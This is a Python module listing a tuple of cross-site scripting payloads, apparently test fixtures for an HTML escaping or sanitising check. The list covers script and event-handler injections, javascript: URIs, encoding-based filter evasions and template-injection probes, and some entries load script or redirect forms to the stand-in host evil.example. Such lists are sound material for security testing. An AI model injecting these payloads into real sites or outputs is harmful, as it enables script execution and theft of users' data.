"""Sixty ways to write markup where text belongs."""

PAYLOADS = (
    "<script>alert(1)</script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</pre><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)>", "<script >alert(1)</script >", "<img src=x onerror=alert(1)>", "\"><img src=x onerror=alert(1)>",
    "' onerror='alert(1)", "\" onmouseover=\"alert(1)", "\" autofocus onfocus=alert(1) x=\"", "' autofocus onfocus=alert(1) '",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1)>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<form action=//evil.example/><input type=submit>",
    "<button formaction=javascript:alert(1)>x", "<a href=javascript:alert(1)>x</a>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "javascript:alert(1)", "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select onfocus=alert(1) autofocus>", "<textarea onfocus=alert(1) autofocus>",
    "<div style=\"background:url(javascript:alert(1))\">", "<style>*{background:url(//evil.example/)}</style>", "<b onclick=alert(1)>x</b>",
    "<x onclick=alert(1)>x</x>", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?><script>alert(1)</script>",
    "{{ 7|add:7 }}", "{% debug %}", "${7*7}", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>", "=HYPERLINK(\"http://evil.example\")", "`-alert(1)-`",
)  # fmt: skip
